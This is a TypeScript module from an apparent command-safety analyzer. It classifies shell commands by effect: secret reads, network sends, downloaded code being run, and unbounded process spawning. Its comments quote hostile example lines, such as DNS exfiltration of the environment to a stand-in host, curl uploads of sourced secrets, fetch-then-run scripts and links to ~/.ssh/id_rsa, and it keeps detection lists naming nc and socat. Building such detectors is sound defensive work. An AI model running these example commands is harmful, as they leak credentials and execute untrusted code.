/**
 * @module the effect model: what each simple command that really runs does (deletes, overwrites, discarded git
 * work, destroyed history, network sends, code fetched or decoded then run, device writes, permission changes,
 * unbounded spawning, publishing, secrets read), derived from its parsed words. Linear in the words.
 */
import { persistenceEffects, plantedUnseen } from "./effects/persistence.ts";
import type { SimpleCommand } from "./types.ts";
import { analyze } from "./flags.ts";
import { fileEffects } from "./effects/files.ts";
import { ghEffects, gitEffects } from "./effects/git.ts";
import { infraEffects } from "./effects/infra.ts";
import { serviceEffects } from "./effects/services.ts";
import { controlEffects, controlLineEffects, killLineEffects } from "./effects/control.ts";
import { machineEffects, pipedMachineEffects } from "./effects/machine.ts";
import { networkEffects } from "./effects/network.ts";
import { codeEffects, powerEffects, printsSecretVar, publishEffects, spawnEffects } from "./effects/process.ts";
import { isSecretPath, readsContent, secretReads } from "./effects/secrets.ts";
import { NETWORK } from "./effects/network.ts";
import { effect, type Effect } from "./effects/types.ts";
import { nameTest } from "./program-names.ts";
import { memoOf } from "./memo.ts";

export type { Effect, EffectKind, EffectData, Target } from "./effects/types.ts";
export { EFFECT_KINDS, EFFECT_DATA } from "./effects/types.ts";

/** `--help`/`--version` anywhere before `--`, or a lone `-h`: the program prints and does nothing else (memoized). */
export function onlyPrintsHelp(cmd: SimpleCommand): boolean {
  const memo = memoOf(cmd);
  let hit = memo.help;
  if (hit === undefined) {
    hit = printsHelp(cmd);
    memo.help = hit;
  }
  return hit;
}

function printsHelp(cmd: SimpleCommand): boolean {
  const a = cmd.argv;
  if (a.length === 2 && (a[1] === "-h" || a[1] === "-?" || a[1] === "/?")) return true;
  // Windows tools print their help for a `/?` anywhere (`net stop svc /?`); in bash `/?` could be a glob, so only these.
  if (a.includes("/?") && WINDOWS_TOOL.test(cmd.program)) return true;
  // The AWS CLI's help is a trailing `help` word: `aws s3 rm help`, `aws configure export-credentials help`.
  if (cmd.program === "aws" && a.length > 2 && a[a.length - 1] === "help") return true;
  // git's `-h` is help for every subcommand: `git branch -D -h`.
  if (cmd.program === "git" && a.includes("-h")) return true;
  for (let i = 1; i < a.length; i++) {
    const w = a[i];
    if (w === "--") return false;
    // `cargo yank --version 1.0.0`: an option given a version number as its value prints nothing.
    if (w === "--version" && /^v?\d+(?:\.\d+)+/.test(a[i + 1] ?? "")) continue;
    if (w === "--help" || w === "--version" || w === "--usage") return true;
  }
  return false;
}

const WINDOWS_TOOL = /^(?:net|sc|sc\.exe|schtasks|reg|reg\.exe|netsh|icacls|takeown|shutdown|shutdown\.exe|format|diskpart|bcdedit|vssadmin|wmic|cipher|taskkill|tasklist|robocopy|xcopy|attrib|wevtutil|setx|mountvol|bootsect|chkdsk|fsutil|ipconfig|manage-bde|wbadmin|sdelete|sdelete64|cmd|cmd\.exe)$/i;

const lineCache = new WeakMap<readonly SimpleCommand[], Map<SimpleCommand, Effect[]>>();

function base(p: string): string {
  const s = p.replace(/\/+$/, "");
  return s.slice(s.lastIndexOf("/") + 1);
}

/** Files a command downloads: `curl -o f`, `curl -O url`, `wget url`, `wget -O f`, `curl ... | tee f`. */
function downloads(cmd: SimpleCommand): string[] {
  const a = cmd.argv;
  const out: string[] = [];
  // `wget x.io/a.sh` has no scheme: a host name with a path is a URL to these programs too.
  // Only the fetchers' own branches below read the URL: no other command's words are scanned for one.
  const url = FETCH_PROGRAMS.has(cmd.program) ? (a.find((w) => /^https?:\/\//.test(w)) ?? a.slice(1).find((w) => /^[\w-]+(?:\.[\w-]+)*\.[a-z]{2,}(?::\d+)?\/[^\s]*[^/]$/i.test(w))) : undefined;
  if (cmd.program === "curl") {
    for (let i = 1; i < a.length; i++) {
      const w = a[i] ?? "";
      if (w === "-o" || w === "--output") out.push(a[i + 1] ?? "");
      else if (/^-[a-zA-Z]*o$/.test(w) && !w.startsWith("--")) out.push(a[i + 1] ?? "");
      else if (/^-[a-zA-Z]*O/.test(w) && url) out.push(base(url.replace(/[?#].*$/, "")));
    }
  } else if (cmd.program === "wget") {
    const k = a.findIndex((w) => w === "-O" || w === "--output-document" || /^-[a-zA-Z]*O$/.test(w));
    if (k > 0 && a[k + 1] !== "-") out.push(a[k + 1] ?? "");
    else if (k < 0 && url) out.push(base(url.replace(/[?#].*$/, "")));
  } else if (cmd.program === "aria2c" || cmd.program === "http" || cmd.program === "xh" || cmd.program === "fetch") {
    for (let i = 1; i < a.length; i++) if (a[i] === "-o" || a[i] === "--out" || a[i] === "--output") out.push(a[i + 1] ?? "");
  } else if (cmd.program === "invoke-webrequest") {
    const k = a.indexOf("-o");
    if (k > 0) out.push(a[k + 1] ?? "");
  }
  // `php -r 'copy("https://x/installer", "setup.php");'`, `python -c "urlretrieve('https://x/i.py', 'i.py')"`: code that saves a download.
  if (a.length > 1 && SAVING_INTERPRETERS.test(cmd.program)) for (const m of a.slice(1).join("\n").slice(0, 1 << 16).matchAll(/\b(?:copy|urlretrieve|download_file|downloadFile)\s*\(\s*['"]https?:\/\/[^'"]{1,500}['"]\s*,\s*['"]([^'"]{1,300})['"]/g)) out.push(m[1] ?? "");
  // `curl URL > i.sh`, `wget -qO- URL > x`: the download lands where stdout is redirected.
  if (FETCH_PROGRAMS.has(cmd.program) && url) for (const r of cmd.redirects) if ((r.op === ">" || r.op === ">>" || r.op === ">|") && r.fd !== "2") out.push(r.target);
  return out.length === 0 ? out : out.filter((f) => f !== "" && f !== "-");
}

/** Was /^(?:php|python[0-9.]*|ruby|node|perl)$/ (program-names.ts). */
const SAVING_INTERPRETERS = nameTest(["php", "ruby", "node", "perl"], { python: true });
const FETCH_PROGRAMS = new Set(["curl", "wget", "http", "xh", "fetch"]);

/** `bash -n i.sh`, `sh -n`: the shell reads the script for syntax errors and runs none of it. */
function syntaxOnly(c: SimpleCommand): boolean {
  if (!/^(?:sh|bash|zsh|dash|ksh)$/.test(c.program)) return false;
  for (const w of c.argv.slice(1)) {
    if (!w.startsWith("-")) return false;
    if (w === "--noexec" || /^-[a-zA-Z]*n[a-zA-Z]*$/.test(w)) return true;
  }
  return false;
}

const RUNS_FILE = /^(?:sh|bash|zsh|dash|ksh|fish|source|\.|python[0-9.]*|perl|ruby|node|php|pwsh|powershell)$/;

/**
 * Effects that only the whole line shows: a file downloaded then run (`curl -o i.sh URL && sh i.sh`), and a
 * symlink or hard link made to a secret then read (`ln -s ~/.ssh/id_rsa notes.txt && cat notes.txt`). What a
 * link already in the project points to is not known: the hot path does no I/O.
 */
const SECRET_WORD = /secret|token|passw|api_?key|private|credential/i;

/** Commands that print configuration with its secrets resolved into it: `docker compose config`, `heroku config`, `helm get values`. */
function configDump(c: SimpleCommand): boolean {
  const ops = c.argv.slice(1).filter((w) => !w.startsWith("-"));
  const a = c.argv;
  if ((c.program === "docker" || c.program === "podman") && ops[0] === "compose" && ops.includes("config")) return !a.some((w) => /^--(?:services|volumes|images|profiles|networks|hash)$|^(?:-q|--quiet)$/.test(w));
  if (c.program === "docker-compose" && ops.includes("config")) return !a.some((w) => /^--(?:services|volumes|images|profiles|networks|hash)$|^(?:-q|--quiet)$/.test(w));
  if (c.program === "heroku" && (ops[0] === "config" || ops[0] === "config:get")) return true;
  if (c.program === "helm" && ops[0] === "get" && (ops[1] === "values" || ops[1] === "all")) return true;
  return c.program === "git" && ops[0] === "config" && a.some((w) => w === "--list" || w === "-l");
}

/** Programs that put their arguments into a request body, header or URL (ssh and scp take a variable as a host as often). */
const DATA_SENDERS = new Set(["curl", "wget", "http", "https", "xh", "nc", "ncat", "netcat", "socat", "invoke-webrequest", "invoke-restmethod", "iwr", "irm"]);
/** Name lookups carry data in the name they ask for. */
const LOOKUPS = new Set(["dig", "nslookup", "host", "drill", "ping", "ping6", "resolvectl", "getent"]);
const LOCAL_URL = /^(?:https?:\/\/)?(?:localhost|127\.0\.0\.1|0\.0\.0\.0|\[::1\])(?:[:/]|$)/;

/** The last line asked about: every effect rule of one evaluation asks about the same line (no WeakMap lookup then). */
let lastLine: readonly SimpleCommand[] | undefined;
let lastLineEffects: Map<SimpleCommand, Effect[]> | undefined;

export function lineEffects(commands: readonly SimpleCommand[]): Map<SimpleCommand, Effect[]> {
  if (commands === lastLine && lastLineEffects !== undefined) return lastLineEffects;
  const hit = lineCache.get(commands) ?? lineEffectsOf(commands);
  lastLine = commands;
  lastLineEffects = hit;
  return hit;
}

function lineEffectsOf(commands: readonly SimpleCommand[]): Map<SimpleCommand, Effect[]> {
  const out = new Map<SimpleCommand, Effect[]>();
  const fetched = new Set<string>();
  const fetchedDirs: string[] = [];
  let sourced = false;
  /** A download was extracted (`curl x | tar xz`, `tar xf x.tgz` of a fetched file): what it unpacked is from the network. */
  let extracted = false;
  /** Directories a download was unpacked into (`tar xz -C /tmp/tool`). */
  const unpackedInto: string[] = [];
  const links = new Map<string, string>();
  /** Names a secret was moved or copied to on the line (`mv .env notes.txt`), and the secret. */
  const renamed = new Map<string, string>();
  const add = (c: SimpleCommand, e: Effect) => out.set(c, [...(out.get(c) ?? []), e]);
  /** The last command was an endless producer piped straight into xargs (`yes |`, `seq inf |`). */
  let endlessFeed = false;
  /** Files the environment was dumped into earlier on the line (`env > /tmp/e.txt`). */
  const envFiles = new Set<string>();
  /** The previous command was `docker inspect` piped on: its JSON holds the container's environment. */
  let inspected = false;
  /** A secret file was sourced into the shell (`source .env`, `set -a; . ./.env.local`): any variable after it may be one of its secrets. */
  let secretsSourced = false;
  let prev: SimpleCommand | undefined;
  /** The last command piped into xargs or parallel: what the commands they run are given. */
  let feeder: SimpleCommand | undefined;
  /**
   * A program's output is piped into this one (`curl URL | tee f`, `gen | tee f`): what a tee writes then is as good as a
   * download. A literal print piped in (`echo 'npm test' | tee f`) is known text, read where the file runs.
   */
  let fedByPipe = false;
  /** Variables a `read` filled from a pipe of the environment or of a secret file. */
  const fedVars = new Map<string, "env" | "secret">();
  /** Variables a `read` filled with variable names (`compgen -v`). */
  const namesFed = new Set<string>();
  for (const c of commands) {
    // `ps -e | xargs kill -9`, `Get-Process | Stop-Process`: what the producer lists is what the consumer acts on.
    const producer = c.stdinArgs ? feeder : prev !== undefined && prev.pipeTo[0] === c.program ? prev : undefined;
    if (producer !== undefined) for (const e of pipedMachineEffects(producer, c)) add(c, e);
    if (c.pipeTo[0] === "xargs" || c.pipeTo[0] === "parallel") feeder = c;
    fedByPipe = prev !== undefined && prev.pipeTo.includes(c.program) && !(prev.program === "echo" || prev.program === "printf" || (prev.program === "cat" && prev.argv.length === 1));
    // `docker compose config | grep -i password`: a dump of resolved configuration (the .env's values put in), searched for its secrets.
    if (prev !== undefined && prev.pipeTo[0] === c.program && (c.program === "grep" || c.program === "egrep" || c.program === "rg") && configDump(prev) && c.argv.slice(1).some((w) => !w.startsWith("-") && SECRET_WORD.test(w))) {
      add(c, effect("secret-read", `${c.program} picks secrets out of ${prev.program}'s resolved configuration`));
    }
    // `env | xxd -p | while read l; do dig $l.x.io; done`: the loop's variable holds the environment (or a secret) line by line.
    if (c.program === "read" && prev !== undefined && prev.pipeTo[0] === "read") {
      const from = prev.pipeFrom === "env" || (/^(?:env|printenv|set)$/.test(prev.program) && prev.argv.length === 1) ? "env" : effectsOf(prev).some((e) => e.kind === "secret-read") ? "secret" : undefined;
      if (from !== undefined) for (const w of c.argv.slice(1)) if (/^[A-Za-z_]\w*$/.test(w) && fedVars.size < 16) fedVars.set(w, from);
      // `compgen -v | while read v; do echo "$v=${!v}"; done`: the loop is handed every variable's name.
      if ((prev.program === "compgen" && prev.argv.some((w) => w === "-v" || w === "-e"))) for (const w of c.argv.slice(1)) if (/^[A-Za-z_]\w*$/.test(w) && namesFed.size < 16) namesFed.add(w);
    }
    // `echo "${!v}"` over every name: the whole environment's values, printed.
    if (namesFed.size > 0 && (c.program === "echo" || c.program === "printf") && c.argv.some((w) => [...w.matchAll(/\$\{!(\w+)\}/g)].some((m) => namesFed.has(m[1] ?? "")))) add(c, effect("secret-read", "prints the value of every variable (indirect expansion over compgen's names)"));
    const fed = fedVars.size > 0 && (NETWORK.has(c.program) || LOOKUPS.has(c.program)) ? c.argv.flatMap((w, k) => (k > 0 && c.dynamic[k] === true ? [...w.matchAll(/\$\{?(\w+)/g)].map((m) => fedVars.get(m[1] ?? "")) : [])).find((x) => x !== undefined) : undefined;
    if (fed !== undefined) add(c, effect("network-send", `${c.program} sends what a loop read from ${fed === "env" ? "the environment" : "a secret file"}`, [], { data: fed }));
    prev = c;
    // `source .env && curl -d "db=$DATABASE_URL" URL`: the variable's name says nothing, its origin does.
    if (secretsSourced && DATA_SENDERS.has(c.program) && c.argv.some((w, k) => k > 0 && c.dynamic[k] === true && /\$\{?[A-Za-z_]/.test(w)) && !c.argv.some((w) => LOCAL_URL.test(w))) {
      add(c, effect("network-send", `${c.program} sends a variable of a secret file sourced earlier on the line`, [], { data: "secret" }));
    }
    if ((c.program === "source" || c.program === ".") && c.argv.slice(1).some((w) => isSecretPath(w))) secretsSourced = true;
    // `docker inspect web | jq '.[0].Config.Env'`: the filter picks the environment (its secrets) out of the JSON.
    if (inspected && c.argv.slice(1).some((w) => /(?:^|[.\s'"])Env\b|^\.(?:\[\d*\]\.?)?Config$/.test(w))) add(c, effect("secret-read", `${c.program} picks the container's environment out of docker inspect`));
    // `env > /tmp/e && curl -F f=@/tmp/e URL`: the environment, put in a file, then sent.
    if (envFiles.size > 0 && NETWORK.has(c.program)) {
      const named = [...c.argv.slice(1), ...c.redirects.filter((r) => r.op === "<").map((r) => r.target)].map((w) => w.replace(/^[\w-]*=?@/, ""));
      if (named.some((w) => envFiles.has(w) || envFiles.has(base(w)))) add(c, effect("network-send", "sends a file the environment was dumped into earlier on the line", [], { data: "env" }));
    }
    if (((c.program === "env" || c.program === "printenv" || c.program === "set") && c.argv.length === 1) || (c.program === "export" && c.argv[1] === "-p")) {
      for (const r of c.redirects) if ((r.op === ">" || r.op === ">>") && r.fd !== "2" && envFiles.size < 16) envFiles.add(r.target).add(base(r.target));
    }
    inspected = (c.program === "docker" || c.program === "podman") && c.pipeTo.length > 0 && c.argv.slice(1).filter((w) => !w.startsWith("-")).some((w, k, ops) => w === "inspect" && (k === 0 || ops[0] === "container"));
    if ((c.program === "xargs" || c.program === "parallel") && endlessFeed && unboundedProcs(c.argv)) add(c, effect("spawn-unbounded", `${c.program} starts a process per line of an endless input, with no limit on how many run at once`));
    endlessFeed = (c.pipeTo[0] === "xargs" || c.pipeTo[0] === "parallel") && endless(c);
    if (fetched.size > 0) {
      const prog = base(c.argv[0] ?? "");
      const first = c.argv.slice(1).find((w) => !w.startsWith("-"));
      if (fetched.has(prog) && c.argv[0] !== prog) add(c, effect("remote-code", `runs ${c.argv[0]}, downloaded earlier on the line`));
      else if (fetched.has(prog) && !["chmod", "cat", "ls", "rm", "mv", "cp", "file", "sha256sum", "shasum", "md5sum", "less", "head", "tail", "wc", "stat"].includes(prog)) add(c, effect("remote-code", `runs ${prog}, downloaded earlier on the line`));
      else if (RUNS_FILE.test(c.program) && first !== undefined && fetched.has(base(first)) && !syntaxOnly(c)) add(c, effect("remote-code", `runs ${first}, downloaded earlier on the line`));
      // `curl x.io/Makefile -o /tmp/M && make -f /tmp/M`: a makefile's recipes are shell commands.
      else if (/^g?make$/.test(c.program)) {
        const mf = c.argv.flatMap((w, k) => (w === "-f" || w === "--file" || w === "--makefile" ? [c.argv[k + 1] ?? ""] : /^(?:-f|--file=|--makefile=)./.test(w) ? [w.replace(/^-f|^--(?:make)?file=/, "")] : []));
        if (mf.some((f) => fetched.has(base(f)))) add(c, effect("remote-code", `runs the recipes of ${mf.join(" ")}, downloaded earlier on the line`));
      }
    }
    if (extracted && c.argv[0] !== undefined && /^\.{1,2}\//.test(c.argv[0]) && !fetched.has(base(c.argv[0]))) add(c, effect("remote-code", `runs ${c.argv[0]}, unpacked from a download earlier on the line`));
    // `curl URL | tar xz -C /tmp && /tmp/tool/install.sh`: a program under the directory the download was unpacked into.
    else if (unpackedInto.length > 0 && c.argv[0] !== undefined && unpackedInto.some((d) => (c.argv[0] ?? "").startsWith(`${d}/`) || (RUNS_FILE.test(c.program) && (c.argv[1] ?? "").startsWith(`${d}/`)))) add(c, effect("remote-code", `runs ${c.argv[0]}, unpacked from a download earlier on the line`));
    if ((c.program === "tar" || c.program === "unzip" || c.program === "bsdtar") && (extracted || c.argv.slice(1).some((w) => fetched.has(base(w)))) && unpackedInto.length < 16) {
      const k = c.argv.findIndex((w) => w === "-C" || w === "--directory" || w === "-d");
      const dir = k > 0 ? c.argv[k + 1] : c.argv.find((w) => w.startsWith("--directory="))?.slice(12);
      if (dir !== undefined && dir !== "" && dir !== "." && dir !== "./") unpackedInto.push(dir.replace(/\/+$/, ""));
    }
    if ((c.program === "curl" || c.program === "wget") && c.pipeTo.some((x) => x === "tar" || x === "bsdtar" || x === "unzip" || x === "busybox")) extracted = true;
    if ((c.program === "tar" || c.program === "unzip" || c.program === "bsdtar") && c.argv.slice(1).some((w) => fetched.has(base(w)))) extracted = true;
    for (const f of downloads(c)) {
      fetched.add(base(f));
      fetched.add(base(f).replace(/\.(?:exe|bat|cmd|ps1|com)$/i, ""));
    }
    // `git clone URL dir && bash dir/install.sh`: the clone's files came from the network.
    if (c.program === "git" && c.argv.includes("clone")) {
      const ops = c.argv.slice(c.argv.indexOf("clone") + 1).filter((w) => !w.startsWith("-"));
      const dir = ops[1] ?? base((ops[0] ?? "").replace(/\.git$/, ""));
      if (dir !== "") fetchedDirs.push(dir.replace(/\/+$/, ""));
    }
    if (fetchedDirs.length > 0 && RUNS_FILE.test(c.program)) {
      const first = c.argv.slice(1).find((w) => !w.startsWith("-"));
      if (first !== undefined && fetchedDirs.some((d) => first.startsWith(`${d}/`))) add(c, effect("remote-code", `runs ${first}, cloned from the network earlier on the line`));
    }
    if (c.program === "tee" && c.pipeTo.length === 0 && fedByPipe && !c.redirects.some((r) => r.body !== undefined || r.op === "<<<")) {
      // `curl ... | tee f` writes the download to f (`tee f <<< 'text'` writes the text, read where the file runs).
      for (const w of c.argv.slice(1)) if (!w.startsWith("-")) fetched.add(base(w));
    }
    // `. .env; printenv`, `source .env && echo $DATABASE_URL`: the secrets, loaded, then printed.
    if ((c.program === "source" || c.program === ".") && isSecretPath(c.argv[1] ?? "")) sourced = true;
    else if (sourced && (((c.program === "env" || c.program === "printenv" || c.program === "export" || c.program === "set") && c.argv.length === 1) || ((c.program === "echo" || c.program === "printf") && c.dynamic.some(Boolean)))) {
      add(c, effect("secret-read", "prints variables loaded from a secrets file earlier on the line"));
    }
    if (links.size > 0 && c.program !== "ln") {
      const words = c.argv.slice(1).map((w) => w.replace(/^[\w-]*=?@/, ""));
      const read = words.find((w) => links.has(base(w)) || [...links.keys()].some((l) => w.startsWith(`${l}/`) || w.includes(`/${l}/`)));
      if (read !== undefined) add(c, effect("secret-read", `reads ${read}, a link made earlier on the line to ${links.get(base(read)) ?? "a secret"}`, [read]));
    }
    // `mv .env notes.txt && cat notes.txt`: the secret under a new name, read.
    if (renamed.size > 0 && readsContent(c.program)) {
      const read = c.argv.slice(1).find((w) => renamed.has(w) || renamed.has(base(w)));
      if (read !== undefined) add(c, effect("secret-read", `reads ${read}, where ${renamed.get(read) ?? renamed.get(base(read)) ?? "a secret"} was put earlier on the line`, [read]));
    }
    if ((c.program === "mv" || c.program === "cp" || c.program === "install" || c.program === "ditto") && renamed.size < 64) {
      const ops = c.argv.slice(1).filter((w, k) => !w.startsWith("-") && !(c.program === "install" && /^-[mog]$/.test(c.argv[k] ?? "")));
      const [src, dst] = ops;
      if (ops.length === 2 && src !== undefined && dst !== undefined && isSecretPath(src) && !isSecretPath(dst)) renamed.set(dst.replace(/\/+$/, ""), src).set(base(dst), src);
    }
    if (c.program === "ln") {
      const ops = c.argv.slice(1).filter((w) => !w.startsWith("-"));
      const target = ops[0];
      const link = ops.length >= 2 ? (ops[ops.length - 1] ?? "") : base(target ?? "");
      if (target !== undefined && isSecretPath(target) && links.size < 64) {
        links.set(base(link), target);
        links.set(link.replace(/\/+$/, ""), target);
      }
    }
  }
  killLineEffects(commands, add);
  controlLineEffects(commands, add);
  lineCache.set(commands, out);
  return out;
}

/** A producer that never stops writing: `yes`, `seq inf`, `cat /dev/zero`. */
function endless(c: SimpleCommand): boolean {
  if (c.program === "yes") return true;
  // `seq 1 1000000000`: a count no run of spawned processes gets through is as good as endless.
  if (c.program === "seq" || c.program === "jot") return c.argv.slice(1).some((w) => /^[+]?inf(?:inity)?$/i.test(w) || (/^\d+$/.test(w) && w.length >= 7)) || (c.program === "jot" && c.argv[1] === "0");
  return (c.program === "cat" || c.program === "head" && c.argv.length === 2) && c.argv.slice(1).some((w) => /^\/dev\/(?:zero|u?random)$/.test(w));
}

/** `xargs -P0`, `-P 0`, `--max-procs=0`, `parallel -j0` (as many at once as it can), or a count past any machine's cores. */
function unboundedProcs(a: string[]): boolean {
  for (let i = 1; i < a.length; i++) {
    const w = a[i] ?? "";
    const m = /^(?:-P|--max-procs=?|-j|--jobs=?)(\d*)$/.exec(w);
    if (!m) continue;
    const v = m[1] === "" ? (a[i + 1] ?? "") : (m[1] ?? "");
    if (/^\d+$/.test(v) && (Number(v) === 0 || Number(v) >= 512)) return true;
  }
  return false;
}

const NONE: Effect[] = [];

function append(to: Effect[], from: readonly Effect[]): void {
  for (let i = 0; i < from.length; i++) to.push(from[i] as Effect);
}

/** The effects of one simple command (memoized: every effect rule asks about the same commands). */
export function effectsOf(cmd: SimpleCommand): Effect[] {
  const memo = memoOf(cmd);
  const hit = memo.effects;
  if (hit) return hit;
  let out: Effect[] = NONE;
  if (!onlyPrintsHelp(cmd)) {
    const an = analyze(cmd);
    // Most families find nothing for a command: their empty lists are skipped, not spread (13 spreads a command cost more than the families' own early outs).
    const found: Effect[] = [];
    append(found, fileEffects(cmd, an));
    if (cmd.program === "git") append(found, gitEffects(cmd, an));
    else if (cmd.program === "gh") append(found, ghEffects(cmd, an));
    append(found, networkEffects(cmd, an));
    append(found, publishEffects(cmd, an));
    append(found, codeEffects(cmd));
    append(found, spawnEffects(cmd));
    append(found, powerEffects(cmd));
    append(found, infraEffects(cmd));
    append(found, serviceEffects(cmd));
    append(found, controlEffects(cmd));
    append(found, machineEffects(cmd));
    append(found, printsSecretVar(cmd));
    append(found, secretReads(cmd, an));
    append(found, persistenceEffects(cmd));
    append(found, plantedUnseen(cmd, downloads(cmd)));
    if (found.length > 0) out = found;
  } else if (cmd.redirects.length > 0) {
    // `mkfs --help > /dev/sda` still writes where it is redirected.
    const bare: SimpleCommand = { ...cmd, argv: [""], program: "" };
    out = fileEffects(bare, analyze(bare)).filter((e) => e.kind === "device-write");
  }
  memo.effects = out;
  return out;
}
